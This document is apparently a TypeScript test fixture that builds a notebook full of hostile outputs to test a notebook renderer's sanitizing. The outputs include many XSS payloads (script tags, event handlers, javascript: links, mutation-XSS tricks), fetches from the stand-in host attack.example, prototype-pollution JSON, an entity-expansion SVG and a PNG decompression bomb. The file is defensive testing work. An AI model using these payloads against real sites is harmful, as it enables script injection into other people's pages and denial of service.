import { VEGA_LITE_MIME } from '../../lib/figures/figure.js';
import type { Cell, Output } from '../../lib/notebook/document.js';
import { codeCell, display, markdownCell, PIXEL_PNG } from './fixture.js';

/** A notebook whose outputs attack the page. What would run sets `window.pwned`; what would load names attack.example. */

const RUN = 'window.pwned=1;alert(1)';
const AWAY = 'https://attack.example';
const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

function base64(text: string): string {
  return Buffer.from(text).toString('base64');
}

const HTML_ATTACKS: Readonly<Record<string, string>> = {
  'a script': `<script>${RUN}</script>`,
  'a script of a module': `<script type="module" src="${AWAY}/x.js"></script>`,
  'a script in pieces': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'a script after closers': `</pre></div></section></main></body></html><script>${RUN}</script>`,
  'a script after an odd comment': `<!--><script>${RUN}</script>--><!-- --!><img src=x onerror=${RUN}>`,
  'a script in CDATA': `<![CDATA[</p><script>${RUN}</script>]]>`,
  'an error handler': `<img src=x onerror="${RUN}">`,
  'handlers of many kinds': `<details open ontoggle="${RUN}"><summary>a</summary></details><p onmouseover=${RUN} onfocus=${RUN} tabindex=0 autofocus>b</p>`,
  'a body and a marquee': `<body onload="${RUN}"><marquee onstart="${RUN}">a</marquee>`,
  'an inline SVG that loads': `<svg onload="${RUN}"><script>${RUN}</script><image href="${AWAY}/a.png"/></svg>`,
  'an SVG that animates a link': `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>a</text></a></svg>`,
  'an SVG that sets a handler': `<svg><set attributeName=onmouseover to="${RUN}"/><handler>${RUN}</handler><use href="${AWAY}/a.svg#b"/></svg>`,
  'a link to a script': `<a href="javascript:${RUN}">a</a><a href="java&#10;script:${RUN}">b</a><a xlink:href="javascript:${RUN}">c</a>`,
  'a link to a page of data': `<a href="data:text/html;base64,${base64(`<script>${RUN}</script>`)}">a</a>`,
  'a form': `<form action="javascript:${RUN}" id="x"><input name="attributes"><button formaction="javascript:${RUN}">a</button></form>`,
  'a frame': `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src="javascript:${RUN}"></iframe><frameset onload="${RUN}">`,
  'an object and an embed': `<object data="data:text/html,<script>${RUN}</script>"></object><embed src="javascript:${RUN}"><applet code="x">`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=javascript:${RUN}"><base href="${AWAY}/">`,
  'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="default-src *"><link rel="stylesheet" href="${AWAY}/a.css">`,
  'a style sheet': `<style>@import url("${AWAY}/a.css"); body{display:none} main{background:url(${AWAY}/b.png)}</style>`,
  'styles of elements': `<p style="background:url(${AWAY}/a.png);position:fixed;inset:0;width:expression(${RUN})">a</p>`,
  'a mutation by noscript': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  'a mutation by math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'a mutation by foreign objects': `<svg></p><foreignObject><style><a id="</style><img src=1 onerror=${RUN}>"></foreignObject></svg>`,
  'a mutation by a template': `<template><script>${RUN}</script></template><form><template><form></form></template></form>`,
  'a mutation by text areas': `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea><title></title><xmp></xmp><plaintext>`,
  'names of the page': `<p id="content">a</p><p id="results">b</p><img name="body" id="body" src="x"><a id="location" name="location"></a><p id="__proto__">c</p><p id="content">d</p>`,
  'the frame of the page': `<div class="sb-toolbar sb-header">a</div><nav class="sb-contents"><details><summary>Contents</summary></details></nav><a class="sb-skip" href="#x">b</a>`,
  'hooks of the scripts': `<div class="sb-chart">a</div><div class="sb-tabs"><div class="sb-panel"></div><p class="sb-panel-title">b</p></div><div class="sb-samples"><div class="sb-sample" data-stem="<b>" data-dice="NaN" data-iou="x" data-slices="|||"><img data-layer="image" src="data:image/png;base64,${PIXEL_PNG}" alt="c"></div><div class="sb-sample"></div></div><div class="sb-scroll"><table></table></div>`,
  'tables that cannot be sorted':
    '<table><caption>a</caption></table><table><thead><tr><th></th><th colspan="999999999">a</th></tr></thead><tbody><tr><td rowspan="65534" data-value="Infinity">=cmd()</td></tr><tr></tr></tbody></table>',
  'words of a notebook about footnotes':
    '<section class="footnotes"><a href="#x" class="footnote-ref">1</a></section><details class="sb-code"><pre>x</pre></details>',
  'headings without end': `${'<h1>'.repeat(50)}Results${'</h1>'.repeat(50)}<h2 id="samples">Results</h2>`,
  'items in items': '<li><div><li>a</li></div></li><dl><dt><div><dd>a</dd></div></dt></dl>',
  'tables in tables': '<table><table><tr><div><td><div><td>a</table></td></tr></table></td></div>',
  'open ends': '<div><ul><li><table><tr><td><pre><code><b><i><a href="#results"><details><summary>a',
  'a pixel from afar': `<img src="${AWAY}/a.png" alt="a"><img srcset="${AWAY}/b.png 2x" src="//attack.example/c.png" alt="b"><picture><source srcset="${AWAY}/d.png"></picture>`,
  'media from afar': `<video src="${AWAY}/a.mp4" poster="${AWAY}/b.png" autoplay></video><audio src="${AWAY}/c.mp3" autoplay></audio>`,
  'pictures of other types': `<img src="data:image/svg+xml;base64,${base64(`<svg ${SVG} onload="${RUN}"/>`)}" alt="a"><img src="data:text/html,x" alt="b"><img src="data:image/png;base64,!!!" alt="c">`,
  'quotes in attributes': `<img src="data:image/png;base64,${PIXEL_PNG}" alt="&quot; onerror=&quot;${RUN}" title="'></script></style><!--">`,
  'a thousand levels': `${'<div>'.repeat(10_000)}deep${'</div>'.repeat(10_000)}`,
  'a thousand quotes': `${'<blockquote><b><ul><li>'.repeat(2_500)}deep`,
  'turned writing':
    '<p>access \u202E\u2066denied\u2069 \u200B&#x202E;x</p><b title="&#x202E;">y\u0000\u0008\u001b[31m</b>',
};

const SVG_ATTACKS: Readonly<Record<string, string>> = {
  'an SVG with a script': `<svg ${SVG} onload="${RUN}"><script>${RUN}</script><script href="${AWAY}/x.js"/></svg>`,
  'an SVG that loads': `<svg ${SVG}><image xlink:href="${AWAY}/a.png"/><use href="${AWAY}/b.svg#c"/><style>@import url(${AWAY}/d.css);</style></svg>`,
  'an SVG with HTML': `<svg ${SVG}><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${AWAY}"></iframe><img src="x" onerror="${RUN}"/></body></foreignObject></svg>`,
  'an SVG of entities': `<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><svg ${SVG}><text>&b;</text></svg>`,
  'an SVG of copies': `<svg ${SVG}><g id="a0"><rect width="9" height="9"/></g>${Array.from({ length: 9 }, (_, i) => `<g id="a${i + 1}">${`<use href="#a${i}"/>`.repeat(10)}</g>`).join('')}<use href="#a9"/></svg>`,
  'an SVG without end': `<svg ${SVG} width="1e9" height="1e9" viewBox="0 0 1 1"><rect width="1" height="1"/></svg>`,
  'no SVG': `<html><script>${RUN}</script></html>`,
};

const chart = (spec: object): Record<string, unknown> => ({
  [VEGA_LITE_MIME]: {
    description: 'A chart."></svg><script>window.pwned=1</script>',
    usermeta: { segbook: { caption: `A caption.</figcaption><script>${RUN}</script>` } },
    data: { values: [{ a: 1, url: `${AWAY}/a.png` }] },
    mark: 'point',
    encoding: { x: { field: 'a', type: 'quantitative' } },
    ...spec,
  },
});

const CHART_ATTACKS: Readonly<Record<string, Record<string, unknown>>> = {
  'a chart with data from afar': chart({ data: { url: `${AWAY}/a.csv` } }),
  'a chart with more data from afar': chart({
    transform: [{ lookup: 'a', from: { data: { url: `${AWAY}/b.csv`, name: 'b' }, key: 'a', fields: ['c'] } }],
  }),
  'a chart of pictures': chart({ mark: 'image', encoding: { url: { field: 'url' } } }),
  'a chart of links': chart({ mark: { type: 'point', href: `javascript:${RUN}` } }),
  'a chart of linked points': chart({ encoding: { href: { value: `javascript:${RUN}` } } }),
  'a chart without end': chart({ data: { sequence: { start: 0, stop: 1e12, as: 'a' } } }),
  'a chart of closers': chart({
    title: '</script></svg></style><!--<script>',
    data: { values: [{ a: `</script><script>${RUN}</script><!--` }] },
    encoding: { x: { field: 'a', type: 'nominal' } },
  }),
  'a chart of fonts and colours': chart({
    config: { font: `x"/><script>${RUN}</script>`, background: `url(${AWAY}/a.png)` },
    mark: { type: 'point', color: `url(${AWAY}/b.png)`, tooltip: true },
  }),
  'a chart with an odd id': chart({
    usermeta: { segbook: { id: `"><script>${RUN}</script>`, caption: 'A.' } },
    mark: { type: 'point', clip: true },
  }),
  'a chart that is a text': { [VEGA_LITE_MIME]: '{"mark":' },
  'a chart that is a list': { [VEGA_LITE_MIME]: [1, 2] },
  'a chart with prototypes': {
    [VEGA_LITE_MIME]: JSON.parse(
      `{"__proto__":{"pwned":1},"constructor":{"prototype":{"pwned":1}},${JSON.stringify(chart({})[VEGA_LITE_MIME]).slice(1)}`,
    ) as unknown,
  },
};

/** A PNG of a few bytes whose head tells of 900 megapixels. */
function bombPng(): string {
  const head = Buffer.from(PIXEL_PNG, 'base64');
  head.writeUInt32BE(30_000, 16);
  head.writeUInt32BE(30_000, 20);
  // CRC-32 of the chunk's type and data, which decoders check
  let crc = 0xffffffff;
  for (const byte of head.subarray(12, 29)) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  head.writeUInt32BE((crc ^ 0xffffffff) >>> 0, 29);
  return head.toString('base64');
}

const alt = (text: string): Record<string, unknown> => ({ alt: text, 'image/png': { alt: text } });

const MIME_ATTACKS: Readonly<Record<string, Output>> = {
  'a number for a text': display({ 'text/plain': 5 }),
  'an object for a text': display({ 'text/html': { toString: 'x' }, 'text/plain': null }),
  'an object for a picture': display({ 'image/png': { a: 1 }, 'text/plain': 'in its place' }, alt('a')),
  'a picture that is none': display({ 'image/png': 'bm90IGEgcGljdHVyZQ==' }, alt('a')),
  'base64 that is none': display({ 'image/png': `"><script>${RUN}</script>` }, alt('a')),
  'a picture of 900 megapixels': display({ 'image/png': bombPng() }, alt('a')),
  'such a picture in HTML': display({ 'text/html': `<img src="data:image/png;base64,${bombPng()}" alt="a">` }),
  'nothing at all': display({}),
  'a script by its type': display({ 'application/javascript': RUN }),
  'formulas and unknown types': display({ 'text/latex': '$\\href{javascript:alert(1)}{x}$' }),
  'types with markup': display({ [`<script>${RUN}</script>`]: 'x', ['y'.repeat(10_000)]: 'z' }),
  'a key of prototypes': display(JSON.parse('{"__proto__":{"text/html":"<script>1</script>"}}') as object as never),
  'alternative text with quotes': display({ 'image/png': PIXEL_PNG }, alt(`" onload="${RUN}" x="</script><!--`)),
  'metadata with markup': display({ 'text/plain': 'x' }, { '<script>': `<script>${RUN}</script>`, segbook: 'x' }),
  'an error with markup': {
    output_type: 'error',
    ename: `<script>${RUN}</script>`,
    evalue: `<img src=x onerror=${RUN}>${'v'.repeat(1e6)}`,
    traceback: [`\u001b[31m<script>${RUN}</script>`, ...Array<string>(1e5).fill('at <b>x</b>')],
  },
  'a print with markup': { output_type: 'stream', name: 'stdout', text: `</pre><script>${RUN}</script>\n` },
  'an unknown stream': { output_type: 'stream', name: `"><script>${RUN}</script>` as 'stdout', text: 'x\n' },
  '100,000 lines': { output_type: 'stream', name: 'stderr', text: 'line\n'.repeat(100_000) },
  'a line of 10 MB': { output_type: 'stream', name: 'stdout', text: 'x'.repeat(10e6) },
  '10 MB of escapes': { output_type: 'stream', name: 'stderr', text: '\u001b]8;;\u001b[\b\r'.repeat(1.2e6) },
  'colours and links of a terminal': {
    output_type: 'stream',
    name: 'stdout',
    text: `\u001b[31mred\u001b[0m \u001b]8;;javascript:${RUN}\u001b\\link\u001b]8;;\u001b\\ \u0007\u0000\u009b31m \u202Eturned \uD800 \u{1F600}\u200D\n`,
  },
};

const MARKDOWN_ATTACKS: Readonly<Record<string, string>> = {
  'Markdown with HTML': `a <script>${RUN}</script> <img src=x onerror=${RUN}>\n\n<div onclick="${RUN}">\n\n**b**\n\n</div></main>`,
  'Markdown with links': `[a](javascript:${RUN}) [b](<java\nscript:${RUN}>) [c][d] <javascript:${RUN}> ${AWAY}/a\n\n[d]: data:text/html,<script>${RUN}</script> "e"`,
  'Markdown with pictures': `![a](${AWAY}/a.png) ![b](javascript:${RUN}) ![c][d]\n\n[d]: //attack.example/b.png`,
  'Markdown with quotes': `![" onerror="${RUN}](data:image/png;base64,${PIXEL_PNG} "' onload='${RUN}")`,
  'Markdown with code': `\`\`\`"><script>${RUN}</script>\n</code></pre><script>${RUN}</script>\n\`\`\``,
  'Markdown with footnotes': `a[^1] b[^</a>] c[^2]\n\n[^1]: <script>${RUN}</script> [d](javascript:${RUN})[^1]\n[^2]: "><img src=x onerror=${RUN}>`,
  'Markdown with mentions': `[@nobody](javascript:${RUN}) <a class="sb-ref" href="#nowhere">x</a>`,
  'Markdown of quotes in quotes': '>'.repeat(10_000),
  'Markdown of lists in lists': '- '.repeat(5_000),
  'Markdown of brackets': `${'['.repeat(5_000)}a${'![a]('.repeat(2_000)}`,
  'Markdown of stars': `${'*a _b '.repeat(10_000)}${'`'.repeat(10_000)}`,
};

function cellsOf<T>(attacks: Readonly<Record<string, T>>, show: (attack: T) => Output): Cell[] {
  return Object.entries(attacks).map(([name, attack]) => codeCell(`// ${name}`, [show(attack)], 'hide-code'));
}

function tables(rows: number): string {
  return `<table>${'<tr><td>1</td><td><b>2</b></td></tr>'.repeat(rows)}</table>`;
}

/** The attacks, one a cell; a section before them and one after, which must stay whole. */
export function hostileCells(): Cell[] {
  return [
    markdownCell('# Datasets', 'section:datasets'),
    codeCell('1', [display({ 'text/plain': 'the cell before' })]),
    ...cellsOf(HTML_ATTACKS, (attack) => display({ 'text/html': attack })),
    ...cellsOf(SVG_ATTACKS, (attack) => display({ 'image/svg+xml': attack }, alt('A drawing."><script>'))),
    ...cellsOf(CHART_ATTACKS, (attack) => display(attack)),
    ...cellsOf(MARKDOWN_ATTACKS, (attack) => display({ 'text/markdown': attack })),
    ...cellsOf(MIME_ATTACKS, (attack) => attack),
    codeCell('many', Array<Output>(5_000).fill(display({ 'text/plain': 'one of many' })), 'hide-code'),
    codeCell('large', [display({ 'text/html': tables(5_000) }), display({ 'text/html': tables(100_000) })]),
    codeCell(`</code></script><script>${RUN}</script>\u202E`, []),
    markdownCell('# Results', 'section:results'),
    codeCell('2', [display({ 'text/plain': 'the cell after' })]),
  ];
}
